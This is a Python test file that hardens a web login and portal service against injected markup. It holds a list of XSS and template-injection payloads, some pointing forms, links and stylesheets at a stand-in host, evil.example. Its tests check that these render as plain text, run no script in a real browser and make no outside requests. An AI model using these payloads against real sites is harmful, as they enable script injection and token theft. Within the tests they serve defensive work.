"""Whatever a page shows, it shows as text: to a strict reader, and to a real Chromium in which a script that ran would leave a mark."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, urlencode

from tests.hardening.as_a_browser import addresses_in
from tests.oidc.provider import Provider
from tests.runtime.site import NATIVE, PUBLIC_URL, Answer, Browser, Site, portal

if TYPE_CHECKING:
    from playwright.sync_api import ConsoleMessage, Frame, Page, Route

MARKUP = [
    "<script>ran=1</script>",
    "\"'><script>ran=1</script>",
    "\"'><img src=x onerror=ran=1>",
    "' onfocus=ran=1 autofocus onmouseover='ran=1",
    "\" onfocus=ran=1 autofocus tabindex=0 x=\"",
    "x onfocus=ran=1 autofocus",
    "</title></style></textarea></noscript><svg/onload=ran=1>",
    "<!--><script>ran=1</script>--><![CDATA[<script>ran=1</script>]]>",
    "<meta http-equiv=refresh content='0;url=javascript:ran=1'><base href=//evil.example/>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe><object data=javascript:ran=1>",
    "</form><form action=//evil.example><input name=token><button form=x formaction=//evil.example>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=ran=1>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import'//evil.example'</style>",
    "&lt;script&gt;ran=1&lt;/script&gt;&#60;script&#62;&NewLine;&colon;&amp;lt",
    "{{7*7}}{% set x=1 %}${7*7}#{7*7}<%= 7*7 %>{{ config }}{{''.__class__}}",
    "javascript:ran=1//%0aran=1",
    "+ADw-script+AD4-ran+AD0-1+ADw-/script+AD4-",
    "\u2028\u2029\u202e\ufeff<\u200bscript>\uff1cscript\uff1eran=1",
    "<a href='//evil.example' ping=//evil.example target=_blank>x</a><svg><use href=//evil.example#x>",
]  # fmt: skip
PLAIN = "words"
NOT_PLAYED = ("Set-Cookie", "Content-Length", "Strict-Transport-Security")


def pages(make_site: Callable[..., Site], provider: Provider, another: Provider, text: str) -> Iterator[tuple[str, Answer]]:
    """Every page of ours, with ``text`` in each value that it shows, by the address at which it was found."""
    provider.claims = dict.fromkeys(("name", "given_name", "family_name", "locale", "sid"), text)
    provider.userinfo = {}
    written = "".join(letter for letter in text if letter.isprintable())  # a profile takes nothing else
    site = make_site(
        provider,
        another,
        login={"mode": "ask_address", "fallback": "native"},
        branding={"name": f"Brand {written}"},
        support={"text": f"Ask {written}", "email": "help@acme.example", "url": "https://help.acme.example/it's/x"},
        portals=[portal("3", "HELP", f"IT {written}"), portal("4", "HR", f"People {written}", access=[{"deny": "everyone"}])],
    )
    browser = Browser(site)
    page = browser.get("/login")
    yield "/login", page
    yield "/login", browser.submit(page, email=text)
    yield "/login", browser.submit(page, email=text, return_to=text, token=text)
    for address in ("/", "/portal/HELP", "/portal/NONE", "/logout", "/logged-out", f"/{quote(text, safe='')}",
                    f"/portal/HELP/{quote(text)}",
                    f"/login?provider={quote(text)}", f"/login?choose=1&return_to={quote(text)}", "/portal/HELP?provider=b",
                    f"/callback?code={quote(text)}&state={quote(text)}", f"/callback/b?error={quote(text)}&state="):  # fmt: skip
        answer = browser.get(address)
        if answer.status != 302:
            yield address.partition("?")[0], answer
    for error in (text, "access_denied", "server_error"):
        away = browser.get("/login?provider=a&return_to=/portal/HELP").location
        state = away.partition("state=")[2].partition("&")[0]
        said = urlencode({"error": error, "error_description": text, "error_uri": text, "state": state, "iss": provider.issuer})
        yield "/callback", browser.get(f"/callback?{said}")
    address = browser.at_provider(browser.get("/login?provider=a&return_to=/portal/HELP").location)
    assert browser.get(address).status == 303
    yield "/callback", browser.get(address)  # a second time
    for address in ("/", "/portal/HR", "/portal/NONE", "/logout", "/servicedesk/customer/portals"):
        yield address, browser.get(address)
    browser.submit(browser.get("/portal/HR"), "another account")
    yield "/logged-out", browser.get("/logged-out")
    for refused in ({"email": "a'b\"<script>@acme.example"}, {"email_verified": False}, {"email": "o'brien&{{7*7}}@acme.example"}):
        provider.claims |= refused
        yield "/callback", browser.get(browser.at_provider(browser.get("/login?provider=a").location))
        yield "/", browser.get("/")


class _Shape(HTMLParser):
    """A page's elements and the names of their attributes, without what they say."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[Any] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, [name for name, _ in attrs]))

    def handle_endtag(self, tag: str) -> None:
        self.elements.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.elements.append("comment")

    def unknown_decl(self, data: str) -> None:
        self.elements.append("declaration")


def shape(html: str) -> list[Any]:
    reader = _Shape()
    reader.feed(html)
    reader.close()
    return reader.elements


def test_no_text_changes_the_shape_of_a_page(make_site: Callable[..., Site], provider: Provider, another_provider: Provider) -> None:
    plain = [(address, answer.status, shape(answer.text)) for address, answer in pages(make_site, provider, another_provider, PLAIN)]
    assert len(plain) > 25
    for text in MARKUP:
        found = list(pages(make_site, provider, another_provider, text))
        assert len(found) == len(plain)
        for (expected_address, status, expected), (address, answer) in zip(plain, found, strict=True):
            assert answer.status == status, (address, text)
            assert expected_address == address or PLAIN in expected_address
            assert shape(answer.text) == expected, (address, text, answer.text)
            for one in addresses_in(answer.text):
                assert "evil" not in one.partition("?")[0], (address, one)
                assert one.startswith(("/", "#main", "mailto:help@acme.example", "https://help.acme.example/", NATIVE)), (address, one)


def together(texts: list[str]) -> list[str]:
    """The texts in as few as have room in a name, which is cut after 255 characters."""
    joined = [""]
    for text in texts:
        if len(joined[-1]) + len(text) > 220:
            joined.append("")
        joined[-1] += text
    return joined


class Shown:
    """Answers played to a real browser. ``complaints`` are its own, ``outside`` what it asked of others."""

    def __init__(self, page: Page, *, with_policy: bool) -> None:
        self.complaints: list[str] = []
        self.outside: list[str] = []
        self._page = page
        self._with_policy = with_policy
        self._answers: list[Answer] = []
        page.on("console", self._hear)
        page.on("dialog", lambda dialog: self.complaints.append(dialog.message))
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.route("**/*", self._fulfil)

    def one_by_one(self, answers: list[Answer]) -> list[list[str]]:
        """Each page's elements."""
        self._answers = answers
        found = []
        for number in range(len(answers)):
            self._page.goto(f"{PUBLIC_URL}/shown/{number}", wait_until="domcontentloaded")
            found.append(elements_of(self._page.main_frame))
        return found

    def in_frames(self, answers: list[Answer]) -> list[list[str]]:
        """The same, all at once."""
        self._answers = answers
        self._page.goto(f"{PUBLIC_URL}/frames")
        assert len(self._page.frames) == len(answers) + 1
        return [elements_of(frame) for frame in self._page.frames[1:]]

    def _fulfil(self, route: Route) -> None:
        path = route.request.url.removeprefix(PUBLIC_URL)
        if path == "/frames":
            frames = "".join(f"<iframe src=/shown/{number}></iframe>" for number in range(len(self._answers)))
            route.fulfill(content_type="text/html", body=f"<!doctype html>{frames}")
        elif path.startswith("/shown/"):
            answer = self._answers[int(path.removeprefix("/shown/"))]
            left_out = NOT_PLAYED if self._with_policy else (*NOT_PLAYED, "Content-Security-Policy")
            headers = {name: value for name, value in answer.headers if name not in left_out}
            route.fulfill(status=answer.status, headers=headers, body=answer.body)
        elif path.startswith(("/assets/", "/favicon.ico")):
            route.fulfill(status=204)
        else:
            self.outside.append(path)
            route.abort()

    def _hear(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            self.complaints.append(message.text)


def elements_of(frame: Frame) -> list[str]:
    """The elements that a browser makes of a page, with their attributes' names; nothing of it ran."""
    read: dict[str, Any] = frame.evaluate(
        """() => ({
            ran: typeof window.ran + typeof window.parent.ran,
            elements: [...document.querySelectorAll('*')].map(
                one => one.tagName + ' ' + [...one.attributes].map(each => each.name).sort().join(' ')
            ),
        })"""
    )
    assert read["ran"] == "undefined" * 2
    return list(read["elements"])


def test_escaping_alone_keeps_every_text_a_text_in_a_browser(
    make_site: Callable[..., Site], provider: Provider, another_provider: Provider, page: Page
) -> None:
    shown = Shown(page, with_policy=False)
    plain = shown.in_frames([answer for _, answer in pages(make_site, provider, another_provider, PLAIN)])
    for text in together(MARKUP):
        assert shown.in_frames([answer for _, answer in pages(make_site, provider, another_provider, text)]) == plain, text
    assert (shown.complaints, shown.outside) == ([], [])


def test_our_policy_finds_nothing_to_refuse_in_a_browser(
    make_site: Callable[..., Site], provider: Provider, another_provider: Provider, page: Page
) -> None:
    shown = Shown(page, with_policy=True)
    kinds = {(answer.status, answer.title): answer for _, answer in pages(make_site, provider, another_provider, PLAIN)}
    assert len(kinds) > 8
    shown.one_by_one(list(kinds.values()))
    for text in together(MARKUP)[:3]:
        kinds = {(answer.status, answer.title): answer for _, answer in pages(make_site, provider, another_provider, text)}
        shown.one_by_one(list(kinds.values()))
    assert (shown.complaints, shown.outside) == ([], [])
